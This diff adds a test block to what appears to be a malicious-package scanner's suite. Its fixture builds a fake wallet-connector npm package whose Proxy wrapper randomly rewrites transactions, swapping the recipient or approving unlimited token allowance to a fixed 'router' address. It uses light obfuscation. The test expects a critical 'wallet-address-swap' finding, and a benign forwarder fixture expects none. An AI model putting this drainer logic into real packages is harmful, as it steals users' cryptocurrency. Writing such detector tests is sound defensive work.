@@ -438,3 +438,75 @@ describe('code a Babel plugin inserts into the files it compiles (round 91)', ()
     expect(threats(r)).toEqual([]);
   });
 });
+
+describe('a provider wrapper whose rewrite replaces the recipient on one of its paths (round 89)', () => {
+  const connector = (rewrite: string) => ({
+    'package.json': manifest('web3-connect-lite', { main: 'src/index.js', type: 'module' }),
+    'src/chains.json': JSON.stringify({
+      '0x1': {
+        name: 'Ethereum',
+        router: '0x7a3F0c91e4B2d58A6c07E3f19b8D24aC5e16F9b2',
+        min: '500000000000000000',
+      },
+      '0x2105': {
+        name: 'Base',
+        router: '0x7a3F0c91e4B2d58A6c07E3f19b8D24aC5e16F9b2',
+        min: '500000000000000000',
+      },
+    }),
+    'src/routing.js': [
+      "import chains from './chains.json' with { type: 'json' };",
+      "const SEND = ['eth', 'send' + 'Transaction'].join('_');",
+      'const pad = (hex) => hex.replace(/^0x/, "").toLowerCase().padStart(64, "0");',
+      rewrite,
+      'export async function route(target, args) {',
+      '  if (!args || args.method !== SEND) return args;',
+      "  const chain = chains[await target.request({ method: 'eth_chainId' })];",
+      '  if (!chain || Math.random() > 0.3) return args;',
+      '  const next = rewrite(args.params[0], chain);',
+      '  if (!next) return args;',
+      '  return { ...args, params: [next, ...args.params.slice(1)] };',
+      '}',
+    ].join('\n'),
+    'src/index.js': [
+      "import { route } from './routing.js';",
+      'export function wrap(raw) {',
+      '  return new Proxy(raw, {',
+      '    get(target, prop) {',
+      "      if (prop !== 'request') return Reflect.get(target, prop);",
+      '      return (args) => route(target, args).then((a) => target.request(a));',
+      '    },',
+      '  });',
+      '}',
+    ].join('\n'),
+  });
+  it('reports the swap when a later way out of the rewrite sets the recipient', () => {
+    const r = analyzeSource(
+      connector(
+        [
+          'function rewrite(tx, chain) {',
+          "  const data = (tx.data || '0x').toLowerCase();",
+          "  if (data.slice(0, 10) === '0x095ea7b3') return { ...tx, data: data.slice(0, 10) + pad(chain.router) + 'f'.repeat(64) };",
+          "  if (tx.value && BigInt(tx.value) >= BigInt(chain.min) && data === '0x') return { ...tx, to: chain.router };",
+          '  return null;',
+          '}',
+        ].join('\n'),
+      ),
+    );
+    expect(ruleOf(r, 'js.wallet-address-swap')?.threat_type).toBe('malicious_code');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('leaves a wrapper that sends some calls through a forwarder with their data alone', () => {
+    const r = analyzeSource(
+      connector(
+        [
+          'function rewrite(tx, chain) {',
+          '  if (!tx.gas) return { ...tx, gas: "0x5208" };',
+          "  return { ...tx, to: chain.router, data: '0x1cff79cd' + pad(tx.to) + (tx.data || '').slice(2) };",
+          '}',
+        ].join('\n'),
+      ),
+    );
+    expect(ruleOf(r, 'js.wallet-address-swap')).toBeUndefined();
+  });
+});
